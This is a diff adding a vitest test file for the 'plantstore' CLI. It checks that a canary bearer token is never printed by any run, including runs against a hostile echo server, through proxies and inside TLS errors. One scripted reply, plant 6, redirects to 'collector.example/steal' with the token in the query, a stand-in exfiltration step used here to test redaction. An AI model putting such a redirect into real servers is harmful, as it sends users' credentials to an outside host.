@@ -1,0 +1,196 @@
+// The token must never come back out: not in results, errors, traces or JSON, whatever
+// a server echoes back and whatever a lower layer puts in its messages. One distinctive
+// token, every kind of run, and a search of all each run printed (ignoring case, since
+// hosts and some layers fold it). Only `auth token` prints it, and then exactly it.
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, it, type ExpectStatic } from 'vitest';
+import { createCa, issue, OPENSSL, startHttpsServer, type HttpsServer } from '../helpers/certificates.js';
+import { answer, modes, startHostileServer, writeHead, type HostileServer, type Script } from '../helpers/hostile-server.js';
+import { closedPort } from '../helpers/scripted-server.js';
+import { runTimed, type TimedResult } from '../helpers/timed.js';
+
+// Letters, digits and '-': a valid bearer token, and a valid DNS label for the certificate case.
+const TOKEN = 'LeakCanary-7f3a9C2e1B5d4a6F8e0c';
+const SLACK_MS = 3000;
+
+let work: string;
+let configDir: string;
+let tokenFile: string;
+let echo: HostileServer;
+let refusedPort: number;
+let tls: { server: HttpsServer; caFile: string } | undefined;
+
+/** Answers each plant id with a different way of handing the Authorization header back. */
+const echoScript: Script = (exchange) => {
+  const sent = exchange.headers['authorization'] ?? '(none)';
+  const echoHeader = { 'x-echo-authorization': sent, 'www-authenticate': `Bearer realm="${sent}"` };
+  const json = { ...echoHeader, 'content-type': 'application/json' };
+  const id = exchange.url.split('/').pop();
+  switch (id) {
+    case '1':
+      return answer(exchange, 204, echoHeader);
+    case '2':
+      return answer(exchange, 400, json, JSON.stringify({ error: 1, message: `you sent Authorization: ${sent}` }));
+    case '3':
+      return answer(exchange, 401, { ...echoHeader, 'content-type': 'application/problem+json' }, JSON.stringify({ title: 'bad token', detail: `${sent} rejected` }));
+    case '4':
+      return answer(exchange, 404, { ...echoHeader, 'content-type': 'text/plain' }, `no plant for ${sent}\nsecond line ${sent}`);
+    case '5':
+      return answer(exchange, 500, { ...echoHeader, 'content-type': 'text/html' }, `<html><title>Error for ${sent}</title></html>`);
+    case '6':
+      return answer(exchange, 302, { ...echoHeader, location: `https://collector.example/steal?auth=${encodeURIComponent(sent)}&raw=${sent.slice(7)}` });
+    case '7':
+      return answer(exchange, 503, json, JSON.stringify({ error: 7, message: `overloaded, retry with ${sent}` }));
+    case '8':
+      return answer(exchange, 429, { ...json, 'retry-after': '120' }, JSON.stringify({ error: 8, message: `slow down ${sent}` }));
+    case '9':
+      return; // silent: the timeout
+    case '10':
+      writeHead(exchange, 400, { ...json, 'content-length': 1000 });
+      exchange.connection.socket.write(`{"error":10,"message":"${sent}`, () => exchange.connection.socket.resetAndDestroy());
+      return;
+    case '11':
+      return answer(exchange, 400, { ...json, 'content-encoding': 'gzip' }, gzipSync(JSON.stringify({ error: 11, message: `zipped ${sent}` })));
+    default:
+      return modes.reply(400, json, JSON.stringify({ error: 99, message: `unknown plant, ${sent}` }))(exchange);
+  }
+};
+const ECHO_IDS = Array.from({ length: 12 }, (_, i) => String(i + 1));
+/** Short deadlines and no waiting between attempts: retries happen, quickly. */
+const FAST = ['--timeout', '0.5', '--retries', '1', '--max-retry-wait', '0'];
+
+beforeAll(async () => {
+  work = mkdtempSync(path.join(tmpdir(), 'plantstore-leak-'));
+  configDir = path.join(work, 'config');
+  tokenFile = path.join(work, 'token');
+  writeFileSync(tokenFile, `${TOKEN}\n`);
+  echo = await startHostileServer(echoScript);
+  refusedPort = await closedPort();
+  if (OPENSSL) {
+    // A certificate whose only name holds the token: Node's altname error quotes it.
+    const ca = createCa(work);
+    const cert = issue(ca, work, 'canary', [`DNS:${TOKEN}.example`]);
+    tls = { server: await startHttpsServer(cert.cert, cert.key), caFile: ca.certFile };
+  }
+  const login = await runTimed(['--profile', 'stored', 'auth', 'login', '--with-token', '--base-url', echo.url], {
+    env: { PLANTSTORE_CONFIG_DIR: configDir },
+    input: `${TOKEN}\n`,
+  });
+  expect(login.code).toBe(0);
+  expectNoToken(login, expect);
+});
+
+afterAll(async () => {
+  await echo?.close();
+  await tls?.server.close();
+  rmSync(work, { recursive: true, force: true });
+});
+
+/** Where the token comes from in a run. */
+const sources = {
+  env: () => ({ PLANTSTORE_TOKEN: TOKEN, PLANTSTORE_BASE_URL: echo.url }),
+  stored: () => ({ PLANTSTORE_PROFILE: 'stored' }),
+  'token file': () => ({ PLANTSTORE_TOKEN_FILE: tokenFile, PLANTSTORE_BASE_URL: echo.url }),
+};
+type Source = keyof typeof sources;
+const SOURCES = Object.keys(sources) as Source[];
+
+async function plantstore(args: string[], env: Record<string, string>, input?: string): Promise<TimedResult> {
+  return runTimed(args, { env: { PLANTSTORE_CONFIG_DIR: configDir, ...env }, ...(input === undefined ? {} : { input }) });
+}
+
+/** Case-insensitive: host names and some layers fold case, and a folded token is still most of the secret. */
+const ANY_CASE = new RegExp(TOKEN, 'i');
+
+function expectNoToken(run: TimedResult, expect: ExpectStatic): void {
+  expect(run.stdout).not.toMatch(ANY_CASE);
+  expect(run.stderr).not.toMatch(ANY_CASE);
+}
+
+interface Case {
+  name: string;
+  args: () => string[];
+  env: () => Record<string, string>;
+  input?: string;
+  exit: number;
+  /** Something the output must show, proving the case did what it says. */
+  shows?: () => string;
+}
+
+const cases: Case[] = [
+  ...SOURCES.flatMap((source): Case[] => [
+    { name: `delete, every echo, --verbose (${source})`, args: () => [...FAST, '--verbose', 'delete', ...ECHO_IDS], env: sources[source], exit: 1, shows: () => '< x-echo-authorization: Bearer ***' },
+    { name: `delete, every echo, --json (${source})`, args: () => [...FAST, '--json', 'delete', ...ECHO_IDS], env: sources[source], exit: 1, shows: () => '"message":"you sent Authorization: Bearer ***"' },
+    { name: `delete, one id, PLANTSTORE_DEBUG=1 (${source})`, args: () => [...FAST, 'delete', '2'], env: () => ({ ...sources[source](), PLANTSTORE_DEBUG: '1' }), exit: 1 },
+    { name: `auth status (${source})`, args: () => ['auth', 'status'], env: sources[source], exit: 0, shows: () => 'Leak…' },
+    { name: `auth status --json (${source})`, args: () => ['--json', 'auth', 'status'], env: sources[source], exit: 0 },
+    { name: `config list --json (${source})`, args: () => ['--json', 'config', 'list'], env: sources[source], exit: 0 },
+    {
+      name: `a base URL carrying the token in its query (${source})`,
+      args: () => ['--base-url', `https://127.0.0.1:${refusedPort}/v1?access_token=${TOKEN}`, 'delete', '1'],
+      env: sources[source],
+      exit: 3,
+      shows: () => 'invalid base URL',
+    },
+    {
+      name: `a base URL carrying the token in its path, connection refused, --verbose (${source})`,
+      args: () => [...FAST, '--verbose', '--base-url', `http://127.0.0.1:${refusedPort}/${TOKEN}`, 'delete', '1'],
+      env: sources[source],
+      exit: 7,
+      shows: () => `127.0.0.1:${refusedPort}/***/plants/1`,
+    },
+    {
+      name: `a certificate naming the token, via a lower-layer TLS error (${source})`,
+      args: () => (tls ? ['--cacert', tls.caFile, '--base-url', `https://localhost:${tls.server.port}`, 'delete', '1'] : []),
+      env: sources[source],
+      exit: 7,
+      shows: () => 'DNS:***.example',
+    },
+  ]),
+  { name: 'auth login --with-token --json --verbose', args: () => ['--profile', 'fresh', '--json', '--verbose', 'auth', 'login', '--with-token'], env: () => ({}), input: `  ${TOKEN}  \n`, exit: 0 },
+  { name: 'auth login, with PLANTSTORE_TOKEN set too', args: () => ['--profile', 'fresh2', 'auth', 'login', '--with-token'], env: () => ({ PLANTSTORE_TOKEN: TOKEN }), input: `${TOKEN}\n`, exit: 0 },
+  { name: 'auth login refusing the token with a space after it', args: () => ['auth', 'login', '--with-token'], env: () => ({}), input: `${TOKEN} extra\n`, exit: 2 },
+  { name: 'auth login refusing the token with a control character', args: () => ['auth', 'login', '--with-token'], env: () => ({}), input: `${TOKEN}\u0007\u001b[2J\n`, exit: 2 },
+  { name: 'auth logout with PLANTSTORE_TOKEN set', args: () => ['--profile', 'nobody', 'auth', 'logout'], env: () => ({ PLANTSTORE_TOKEN: TOKEN }), exit: 0 },
+  { name: 'the token typed as an id (usage error)', args: () => ['delete', TOKEN], env: sources.env, exit: 2 },
+  { name: 'an invalid --timeout', args: () => ['--timeout', 'soon', 'delete', '1'], env: sources.env, exit: 2 },
+  { name: 'an unknown option', args: () => ['--jsn', 'delete', '1'], env: sources.env, exit: 2 },
+  { name: 'no base URL', args: () => ['delete', '1'], env: () => ({ PLANTSTORE_TOKEN: TOKEN }), exit: 3 },
+  { name: 'plain http to a remote host', args: () => ['--base-url', 'http://plants.example.com', 'delete', '1'], env: sources.env, exit: 3 },
+  { name: 'a token file holding the token and junk (exit 3)', args: () => ['--token-file', junkTokenFile(), 'delete', '1'], env: () => ({ PLANTSTORE_BASE_URL: echo.url }), exit: 3, shows: () => 'junk-token' },
+  {
+    name: 'a refused proxy, --verbose',
+    args: () => [...FAST, '--verbose', 'delete', '1'],
+    env: () => ({ ...sources.env(), HTTP_PROXY: `http://user:${TOKEN}@127.0.0.1:${refusedPort}` }),
+    exit: 7,
+    shows: () => 'via proxy http://***@127.0.0.1',
+  },
+];
+
+describe.concurrent('the token is printed nowhere', () => {
+  it.for(cases)('$name', async (c, { expect, skip }) => {
+    if (c.name.includes('certificate') && !tls) skip('openssl is not installed');
+    const run = await plantstore(c.args(), c.env(), c.input);
+    expect(run.code).toBe(c.exit);
+    expectNoToken(run, expect);
+    if (c.shows) expect(`${run.stdout}${run.stderr}`).toContain(c.shows());
+    expect(run.ms).toBeLessThan(2 * 500 + SLACK_MS);
+  });
+});
+
+describe('auth token, the one command that prints it', () => {
+  it.each(SOURCES)('prints exactly the token on stdout and nothing on stderr (%s)', async (source) => {
+    const run = await runTimed(['auth', 'token'], { env: { PLANTSTORE_CONFIG_DIR: configDir, ...sources[source]() } });
+    expect(run).toMatchObject({ code: 0, stdout: `${TOKEN}\n`, stderr: '' });
+  });
+});
+
+/** A token file that is not a token, though it holds one: refused without quoting it. */
+function junkTokenFile(): string {
+  const file = path.join(work, 'junk-token');
+  writeFileSync(file, `${TOKEN} and junk\n`);
+  return file;
+}
